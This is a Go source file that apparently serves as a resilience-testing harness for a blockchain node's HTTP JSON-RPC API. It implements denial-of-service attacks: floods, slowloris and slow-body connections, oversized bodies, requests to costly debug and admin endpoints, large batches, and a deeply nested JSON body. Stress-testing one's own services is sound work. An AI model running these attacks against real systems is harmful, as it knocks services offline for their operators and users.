package attackers

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"
)

// request is one for the API, with a body if there is one.
func (s *scene) request(method, path, body string, headers ...string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: attacker\r\n", method, path, s.API)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Type: application/json\r\nContent-Length: %d\r\n", len(body))
	}
	b.WriteString("\r\n" + body)
	return b.Bytes()
}

// call is a JSON-RPC request to the published path.
func (s *scene) call(method, params string) []byte {
	return s.request("POST", s.path(""), callBody(method, params))
}

// path is the channel's, with a suffix.
func (s *scene) path(suffix string) string { return "/api/v3/" + s.Channel + suffix }

func callBody(method, params string) string {
	if params != "" {
		params = `,"params":` + params
	}
	return `{"jsonrpc":"2.0","id":1,"method":"` + method + `"` + params + `}`
}

// lastBlock is what most honest users ask.
func (s *scene) lastBlock() []byte { return s.call("icx_getLastBlock", "") }

// answer is what is looked at of a response.
type answer struct {
	status int
	// last says that the other side closes the connection after it.
	last bool
}

// readAnswer reads one response and forgets its body. It makes no garbage: attackers share a processor.
func readAnswer(r *bufio.Reader) (answer, error) {
	line, err := r.ReadSlice('\n')
	if err != nil {
		return answer{}, err
	}
	if len(line) < 13 || !bytes.HasPrefix(line, []byte("HTTP/1.")) {
		return answer{}, fmt.Errorf("the answer begins %q; wanted HTTP/1", line)
	}
	var a answer
	if a.status, err = strconv.Atoi(string(line[9:12])); err != nil {
		return answer{}, fmt.Errorf("the answer has the status %q: %w", line[9:12], err)
	}
	// Without a length, the body ends with the connection.
	length, chunked := int64(-1), false
	for {
		if line, err = r.ReadSlice('\n'); err != nil {
			return answer{}, err
		}
		line = bytes.TrimSpace(line)
		if len(line) == 0 {
			break
		}
		name, value, _ := bytes.Cut(line, []byte(":"))
		value = bytes.TrimSpace(value)
		switch {
		case bytes.EqualFold(name, []byte("content-length")):
			if length, err = strconv.ParseInt(string(value), 10, 64); err != nil || length < 0 {
				return answer{}, fmt.Errorf("the answer has the length %q", value)
			}
		case bytes.EqualFold(name, []byte("transfer-encoding")):
			chunked = bytes.EqualFold(value, []byte("chunked"))
		case bytes.EqualFold(name, []byte("connection")):
			a.last = bytes.EqualFold(value, []byte("close"))
		}
	}
	switch {
	case a.status < 200 || a.status == 204 || a.status == 304:
		return a, nil
	case chunked:
		return a, skipChunks(r)
	case length >= 0:
		_, err = io.CopyN(io.Discard, r, length)
		return a, err
	}
	a.last = true
	_, err = io.Copy(io.Discard, r)
	return a, err
}

func skipChunks(r *bufio.Reader) error {
	for {
		line, err := r.ReadSlice('\n')
		if err != nil {
			return err
		}
		digits, _, _ := bytes.Cut(bytes.TrimSpace(line), []byte(";"))
		n, err := strconv.ParseInt(string(digits), 16, 64)
		if err != nil || n < 0 || n > 1<<40 {
			return fmt.Errorf("the answer has a chunk of the length %q", digits)
		}
		if _, err := io.CopyN(io.Discard, r, n+2); err != nil {
			return err
		}
		if n == 0 {
			return nil
		}
	}
}

// ask sends a request and reads its answer. It tells whether the connection can be used again.
func (l *link) ask(r *bufio.Reader, request []byte) bool {
	if err := l.send(request); err != nil {
		l.s.lost(err)
		return false
	}
	l.s.sent.Add(1)
	_ = l.SetReadDeadline(time.Now().Add(patience))
	a, err := readAnswer(r)
	if err != nil {
		l.s.lost(err)
		return false
	}
	if a.status >= 200 && a.status < 300 {
		l.s.answered.Add(1)
	} else {
		l.s.refused.Add(1)
	}
	return !a.last
}

// client asks one request after the other, from one address, as long as the attack lasts, on one connection as long as that lasts. With
// a gap, one request in each; without, as fast as it is answered.
func (s *scene) client(from *pool, worker int, requests [][]byte, gap time.Duration) {
	r := bufio.NewReaderSize(nil, 2048)
	for i, next := worker, time.Now(); !s.over(); {
		l, err := s.dialAPI(from.at(worker))
		if err != nil {
			s.pause(max(gap, 50*time.Millisecond))
			continue
		}
		r.Reset(l)
		for again := true; again && !s.over(); i++ {
			again = l.ask(r, requests[i%len(requests)])
			next = next.Add(gap)
			if early := time.Until(next); early > 0 {
				s.pause(early)
			} else {
				next = time.Now()
			}
		}
		l.end()
	}
}

func httpAttacks() []Attack {
	return []Attack{
		{"httpflood", "200 addresses with 4 connections each ask as fast as they are answered.", LayerHTTP, func(s *scene) error {
			return s.flood(s.scattered(200), 800, [][]byte{s.lastBlock()}, 0)
		}},
		{"httplow", "1,000 addresses ask 4 times in a second, below every limit of one source.", LayerHTTP, func(s *scene) error {
			return s.flood(s.scattered(1_000), 1_000, [][]byte{s.lastBlock()}, 250*time.Millisecond)
		}},
		{"slowloris", "4,000 connections from 200 addresses send a header line each second, never the last.", LayerHTTP, func(s *scene) error {
			return s.dribble(s.scattered(200), 4_000, s.unfinished(), []byte("X-Slow: 1\r\n"))
		}},
		{"slowbody", "4,000 connections from 200 addresses send a byte of a body in a second.", LayerHTTP, func(s *scene) error {
			opening := append(s.unfinished(), "Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n{"...)
			return s.dribble(s.scattered(200), 4_000, opening, []byte(" "))
		}},
		{"bigbody", "50 addresses send large bodies, half of them without saying how large.", LayerHTTP, bigBodies},
		{
			"expensive", "100 addresses ask what costs a node most: traces, estimates, proofs, batches, counters, administration.", LayerHTTP,
			func(s *scene) error { return s.flood(s.scattered(100), 100, s.expensive(), 0) },
		},
		{"batches", "100 addresses send batches of 10, 100 and 300 calls.", LayerHTTP, func(s *scene) error {
			return s.flood(s.scattered(100), 100, s.batches(), 0)
		}},
	}
}

// flood has clients ask all at once.
func (s *scene) flood(from *pool, clients int, requests [][]byte, gap time.Duration) error {
	s.workers(s.connections(clients), max(gap, 200*time.Millisecond), func(worker int) { s.client(from, worker, requests, gap) })
	return nil
}

// unfinished is the beginning of a request.
func (s *scene) unfinished() []byte {
	return fmt.Appendf(nil, "POST %s HTTP/1.1\r\nHost: %s\r\n", s.path(""), s.API)
}

// dribble opens requests and sends a little more of them each second.
func (s *scene) dribble(from *pool, connections int, opening, more []byte) error {
	s.workers(s.connections(connections), time.Second, func(worker int) {
		for !s.over() {
			l, err := s.dialAPI(from.at(worker))
			if err != nil {
				s.pause(100 * time.Millisecond)
				continue
			}
			s.sent.Add(1)
			for err = l.send(opening); err == nil && s.pause(time.Second); err = l.send(more) {
			}
			if err != nil {
				s.lost(err)
			}
			l.end()
			s.pause(100 * time.Millisecond)
		}
	})
	return nil
}

// expensive are requests for what is not published, and for what costs most of what is.
func (s *scene) expensive() [][]byte {
	hash := `{"hash":"0x` + strings.Repeat("12", 32) + `"}`
	tx := `{"txHash":"0x` + strings.Repeat("12", 32) + `"}`
	preps := `{"to":"cx0000000000000000000000000000000000000000","dataType":"call","data":{"method":"getPReps","params":{}}}`
	return [][]byte{
		s.request("POST", "/api/v3d/"+s.Channel, callBody("debug_getTrace", tx)),
		s.request("POST", "/api/v3d", callBody("debug_estimateStep", `{"version":"0x3","from":"hx`+strings.Repeat("12", 20)+`","to":"cx`+
			strings.Repeat("0", 40)+`","timestamp":"0x0","nid":"`+s.CID+`"}`)),
		s.request("GET", "/metrics", ""),
		s.request("GET", "/admin/system", ""),
		s.request("GET", "/admin/chain", ""),
		s.request("POST", "/api/rosetta", callBody("rosetta_getTrace", tx)),
		s.call("icx_getDataByHash", hash),
		s.call("icx_getProofForEvents", `{"hash":"0x`+strings.Repeat("12", 32)+`","index":"0x0","events":["0x0"]}`),
		s.call("icx_waitTransactionResult", tx),
		s.call("icx_call", preps),
		s.batch(10, preps),
	}
}

// batch is one of n calls.
func (s *scene) batch(n int, params string) []byte {
	one := callBody("icx_call", params)
	return s.request("POST", s.path(""), "["+strings.Repeat(one+",", n-1)+one+"]")
}

func (s *scene) batches() [][]byte {
	balance := `{"address":"hx` + strings.Repeat("12", 20) + `"}`
	return [][]byte{
		s.batch(10, balance), s.batch(100, balance), s.batch(300, balance),
		// What has to be read to its end before it is found to be nothing.
		s.request("POST", s.path(""), "["+strings.Repeat("[", 5_000)+strings.Repeat("]", 5_000)+"]"),
	}
}
